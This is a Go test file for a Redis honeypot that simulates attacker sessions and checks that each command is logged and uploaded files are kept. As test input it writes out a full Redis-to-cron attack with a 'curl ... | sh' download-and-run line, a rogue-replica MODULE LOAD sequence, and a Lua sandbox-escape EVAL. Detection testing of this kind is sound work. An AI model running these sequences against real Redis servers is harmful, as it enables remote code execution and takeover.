package redis

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/netip"
	"strings"
	"testing"
	"time"

	"go.cordon.dev/cordon/internal/clock"
	"go.cordon.dev/cordon/internal/deception/service"
	"go.cordon.dev/cordon/internal/deception/service/servicetest"
)

func TestConformance(t *testing.T) { servicetest.Run(t, Kind(), service.Config{"keys": 20}) }

// visitor is a client from an address of its own.
type visitor struct {
	t    *testing.T
	conn net.Conn
	in   *bufio.Reader
	sink *servicetest.Sink

	session *service.Session
	ended   chan bool
}

func (v *visitor) address() netip.AddrPort { return v.session.Client() }

// end waits until the server is done with the connection.
func (v *visitor) end() { <-v.ended }

func visit(t *testing.T, s service.Service, address string) *visitor {
	t.Helper()
	mine, theirs := net.Pipe()
	v := &visitor{t: t, conn: mine, in: bufio.NewReader(mine), sink: &servicetest.Sink{}, ended: make(chan bool)}
	session := service.NewSession(v.sink, clock.Real{}, "test-1", "redis", netip.MustParseAddrPort(address), netip.MustParseAddrPort("192.0.2.7:6379"))
	ctx, cancel := context.WithCancel(context.Background())
	v.session = session
	done := v.ended
	go func() {
		defer close(done)
		s.Serve(ctx, theirs, session)
		_ = theirs.Close()
		session.End("test")
	}()
	t.Cleanup(func() { cancel(); _ = mine.Close(); <-done })
	return v
}

// ask sends a line and returns the reply: its first line, and the body of a
// bulk string.
func (v *visitor) ask(line string) string {
	v.t.Helper()
	_ = v.conn.SetDeadline(time.Now().Add(2 * time.Minute))
	if _, err := io.WriteString(v.conn, line+"\r\n"); err != nil {
		return "closed"
	}
	return v.read()
}

func (v *visitor) read() string {
	head, err := v.in.ReadString('\n')
	if err != nil {
		return "closed"
	}
	head = strings.TrimSuffix(head, "\r\n")
	var n int
	if _, err := fmt.Sscanf(head, "$%d", &n); err == nil && n >= 0 {
		body := make([]byte, n+2)
		_, _ = io.ReadFull(v.in, body)
		return string(body[:n])
	}
	if _, err := fmt.Sscanf(head, "*%d", &n); err == nil {
		var parts []string
		for range n {
			parts = append(parts, v.read())
		}
		return strings.Join(parts, " ")
	}
	return head
}

func made(t testing.TB, c service.Config) service.Service {
	t.Helper()
	s, err := Kind().New(servicetest.Setup(t, c))
	if err != nil {
		t.Fatal(err)
	}
	return s
}

// The oldest trick: the database is written where cron reads it. Each step is
// recorded, and the file is kept.
func TestAFileWrittenForCronIsKept(t *testing.T) {
	v := visit(t, made(t, nil), "203.0.113.9:4000")
	for _, step := range []struct{ line, want string }{
		{"FLUSHALL", "+OK"},
		{`SET x "\n\n*/1 * * * * curl -fsSL http://198.51.100.3/i.sh | sh\n\n"`, "+OK"},
		{"CONFIG SET dir /var/spool/cron/crontabs", "+OK"},
		{"CONFIG SET dbfilename root", "+OK"},
		{"SAVE", "+OK"},
	} {
		if got := v.ask(step.line); got != step.want {
			t.Fatalf("%s: %q, want %q", step.line, got, step.want)
		}
	}
	a := v.sink.Wait(t, service.Upload, 1)[0].Artifact
	if a.Path != "/var/spool/cron/crontabs/root" || !bytes.HasPrefix(a.Data, []byte("REDIS0010")) || !bytes.Contains(a.Data, []byte("curl -fsSL http://198.51.100.3/i.sh")) {
		t.Errorf("%s is kept: %q", a.Path, a.Data)
	}
	var steps []string
	for _, o := range v.sink.Of(service.Command) {
		if s := servicetest.Field(o, "step"); s != "" {
			steps = append(steps, s)
		}
	}
	if got := strings.Join(steps, ", "); got != "choose a file to write, choose a file to write, write the file" {
		t.Errorf("steps: %s", got)
	}
}

func TestAForeignPrimaryIsRecordedAndNotFollowed(t *testing.T) {
	v := visit(t, made(t, service.Config{"enable-module-command": "yes"}), "203.0.113.9:4000")
	for _, step := range []struct{ line, want string }{
		{"SLAVEOF 198.51.100.3 21000", "+OK"},
		{"INFO replication", "master_link_status:down"},
		{"SET a 1", "-READONLY You can't write against a read only replica."},
		{"MODULE LOAD ./exp.so", "-ERR Error loading the extension. Please check the server logs."},
		{"SLAVEOF NO ONE", "+OK"},
		{`system.exec "id"`, "-ERR unknown command 'system.exec', with args beginning with: 'id' "},
	} {
		if got := v.ask(step.line); !strings.Contains(got, step.want) {
			t.Fatalf("%s: %q, want %q", step.line, got, step.want)
		}
	}
	if o := v.sink.Wait(t, service.Fetch, 1)[0]; servicetest.Field(o, "url") != "redis://198.51.100.3:21000" {
		t.Errorf("recorded %+v", o)
	}
}

func TestAScriptIsKept(t *testing.T) {
	v := visit(t, made(t, nil), "203.0.113.9:4000")
	if got := v.ask(`EVAL "return package.loadlib('liblua5.1.so.0','luaopen_io')" 0`); !strings.Contains(got, "nonexistent global variable 'package'") {
		t.Errorf("%q", got)
	}
	if a := v.sink.Wait(t, service.Upload, 1)[0].Artifact; a.Kind != "script" || !bytes.Contains(a.Data, []byte("luaopen_io")) {
		t.Errorf("kept %+v", a)
	}
}

func TestPasswords(t *testing.T) {
	secret := "right" + strings.Repeat("!", 3)
	v := visit(t, made(t, service.Config{"password": secret}), "203.0.113.9:4000")
	for _, step := range []struct{ line, want string }{
		{"GET a", "-NOAUTH Authentication required."},
		{"AUTH wrong", "-WRONGPASS invalid username-password pair or user is disabled."},
		{"AUTH admin wrong2", "-WRONGPASS invalid username-password pair or user is disabled."},
		{"AUTH " + secret, "+OK"},
		{"ACL WHOAMI", "default"},
	} {
		if got := v.ask(step.line); got != step.want {
			t.Errorf("%s: %q, want %q", step.line, got, step.want)
		}
	}
	tried := v.sink.Wait(t, service.LoginAttempt, 3)
	for i, want := range []struct {
		user, secret string
		ok           bool
	}{{"default", "wrong", false}, {"admin", "wrong2", false}, {"default", secret, true}} {
		c := tried[i].Credential
		if c.Kind != service.Plaintext || c.Principal != want.user || string(c.Secret) != want.secret || c.Accepted != want.ok {
			t.Errorf("attempt %d is %+v", i, c)
		}
	}
	for _, o := range v.sink.Of(service.Command) {
		if line := servicetest.Field(o, "line"); strings.Contains(line, secret) {
			t.Errorf("a password stands in the line %q, beside the credential", line)
		}
	}
}

// Who takes a Redis over locks it: from then on he needs his own password.
func TestASetPasswordIsAskedFor(t *testing.T) {
	s := made(t, nil)
	first := visit(t, s, "203.0.113.9:1")
	if got := first.ask("CONFIG SET requirepass mine"); got != "+OK" {
		t.Fatal(got)
	}
	if got := first.ask("PING"); got != "+PONG" {
		t.Errorf("who set it gets %q", got)
	}
	again := visit(t, s, "203.0.113.9:2")
	for _, step := range []struct{ line, want string }{{"PING", "-NOAUTH Authentication required."}, {"AUTH mine", "+OK"}, {"PING", "+PONG"}} {
		if got := again.ask(step.line); got != step.want {
			t.Errorf("%s: %q, want %q", step.line, got, step.want)
		}
	}
}

// A server answers what it has before it waits for more: for an empty line, as
// a web browser's request ends with, or for the other half of a request.
func TestAnswersDoNotWaitForWhatComesNext(t *testing.T) {
	for sent, want := range map[string]string{
		"PING\r\n\r\n":               "+PONG",
		"PING\r\n*1\r\n$4\r\nPI":     "+PONG",
		"PING\r\nPI":                 "+PONG",
		"GET / HTTP/1.0\r\n\r\n":     "-ERR wrong number of arguments for 'get' command",
		"OPTIONS / RTSP/1.0\r\n\r\n": "-ERR unknown command 'OPTIONS', with args beginning with: '/' 'RTSP/1.0' ",
		"*1\r\n$4\r\nPING\r\n*0\r\n": "+PONG",
	} {
		v := visit(t, made(t, nil), "203.0.113.9:4000")
		_ = v.conn.SetDeadline(time.Now().Add(30 * time.Second))
		if _, err := io.WriteString(v.conn, sent); err != nil {
			t.Fatal(err)
		}
		if got := v.read(); got != want {
			t.Errorf("%q is answered %q, want %q", sent, got, want)
		}
	}
}

func TestProtectedModeRefusesStrangers(t *testing.T) {
	s := made(t, service.Config{"protected": true})
	stranger := visit(t, s, "203.0.113.9:4000")
	if got := stranger.read(); !strings.HasPrefix(got, "-DENIED Redis is running in protected mode") {
		t.Errorf("%q", got)
	}
	if got := visit(t, s, "127.0.0.1:4000").ask("PING"); got != "+PONG" {
		t.Errorf("this machine gets %q", got)
	}
}

// An attacker finds again what he left, and nobody else finds it.
func TestEachAttackerHasHisOwn(t *testing.T) {
	s := made(t, nil)
	visit(t, s, "203.0.113.9:4000").ask("SET mark 1")
	if got := visit(t, s, "203.0.113.9:5000").ask("GET mark"); got != "1" {
		t.Errorf("he comes back and finds %q", got)
	}
	if got := visit(t, s, "203.0.113.10:4000").ask("GET mark"); got != "$-1" {
		t.Errorf("another finds %q", got)
	}
	a, b := visit(t, s, "203.0.113.11:1"), visit(t, s, "203.0.113.12:1")
	if x, y := a.ask("DBSIZE"), b.ask("DBSIZE"); x != y || x == ":0" {
		t.Errorf("two attackers first see %s and %s keys", x, y)
	}
}

func TestDeckiesDiffer(t *testing.T) {
	seen := map[string]bool{}
	for i := range 20 {
		setup := servicetest.Setup(t, nil)
		setup.Persona = servicetest.Persona(t, fmt.Sprint("decky-", i), "database-server")
		s, err := New(setup)
		if err != nil {
			t.Fatal(err)
		}
		info := visit(t, s, "203.0.113.9:1").ask("INFO server")
		_, run, _ := strings.Cut(info, "run_id:")
		seen[strings.SplitN(run, "\r", 2)[0]] = true
	}
	if len(seen) != 20 {
		t.Errorf("20 deckies have %d run ids", len(seen))
	}
}

// Whatever one sends, what is kept of it stays within bounds.
func TestMemoryIsBounded(t *testing.T) {
	s := made(t, service.Config{"keys": -1})
	v := visit(t, s, "203.0.113.9:4000")
	blob, refused := strings.Repeat("x", 60_000), 0
	for i := range 300 {
		if got := v.ask(fmt.Sprintf("SET k%d %s", i, blob)); got == "-"+errMemory {
			refused++
		}
	}
	if refused < 100 {
		t.Errorf("of 18 MB only %d pieces are refused", refused)
	}
	for _, line := range []string{"SETRANGE a 8000000 x", "SETBIT b 60000000 1", "APPEND k1 " + blob, "COPY k1 k1000", "BITOP OR c k1 k2"} {
		if got := v.ask(line); got != "-"+errMemory && got != "+OK" && !strings.HasPrefix(got, ":0") {
			t.Errorf("%.20s: %q", line, got)
		}
	}
	if n := s.(*server).used(); n > maxMemoryEach {
		t.Errorf("%d bytes are kept, more than %d", n, maxMemoryEach)
	}
	v.ask("FLUSHALL")
	if got := v.ask("SET a 1"); got != "+OK" {
		t.Errorf("after FLUSHALL: %q", got)
	}
}

func TestPublishedMessagesArrive(t *testing.T) {
	s := made(t, nil)
	a, b, m := visit(t, s, "203.0.113.9:1"), visit(t, s, "203.0.113.9:2"), visit(t, s, "203.0.113.9:3")
	if got := m.ask("MONITOR"); got != "+OK" {
		t.Fatal(got)
	}
	if got := a.ask("SUBSCRIBE news"); got != "subscribe news :1" {
		t.Fatal(got)
	}
	if got := b.ask("PUBLISH news hi"); got != ":1" {
		t.Fatal(got)
	}
	if got := a.read(); got != "message news hi" {
		t.Errorf("the subscriber reads %q", got)
	}
	for _, want := range []string{`"SUBSCRIBE" "news"`, `"PUBLISH" "news" "hi"`} {
		if got := m.read(); !strings.Contains(got, "[0 203.0.113.9:") || !strings.HasSuffix(got, want) {
			t.Errorf("MONITOR shows %q, want %s", got, want)
		}
	}
}

// A server that was shut down is started again by its machine.
func TestShutdownRestarts(t *testing.T) {
	s := made(t, nil)
	if got := visit(t, s, "203.0.113.9:1").ask("SHUTDOWN NOSAVE"); got != "closed" {
		t.Errorf("%q", got)
	}
	if got := visit(t, s, "203.0.113.9:2").ask("INFO server"); !strings.Contains(got, "uptime_in_days:0\r\n") {
		t.Errorf("after it: %q", got)
	}
}

func TestInfoMovesAndAgrees(t *testing.T) {
	c := clock.NewFake(time.Now())
	setup := servicetest.Setup(t, nil)
	setup.Clock = c
	s, err := New(setup)
	if err != nil {
		t.Fatal(err)
	}
	v := visit(t, s, "203.0.113.9:1")
	number := func(name string) (n int64) {
		_, rest, _ := strings.Cut(v.ask("INFO everything"), name+":")
		_, _ = fmt.Sscanf(rest, "%d", &n)
		return n
	}
	up, commands := number("uptime_in_seconds"), number("total_commands_processed")
	c.Advance(time.Hour)
	if d := number("uptime_in_seconds") - up; d != 3600 {
		t.Errorf("an hour later it has run %d s more", d)
	}
	if d := number("total_commands_processed") - commands; d < 500 {
		t.Errorf("in an hour the application sent %d commands", d)
	}
	size := v.ask("DBSIZE")[1:]
	if keys := v.ask("INFO keyspace"); !strings.Contains(keys, "db0:keys="+size+",") {
		t.Errorf("DBSIZE is %s, INFO says %q", size, keys)
	}
}

func TestWrongConfigurationsAreNamed(t *testing.T) {
	for _, tt := range []struct {
		config service.Config
		want   string
	}{
		{service.Config{"enable-debug-command": "maybe"}, "enable-debug-command"},
		{service.Config{"keys": 1 << 20}, "keys"},
	} {
		if _, err := Kind().New(servicetest.Setup(t, tt.config)); err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%v: error %v, want one that names %s", tt.config, err, tt.want)
		}
	}
}
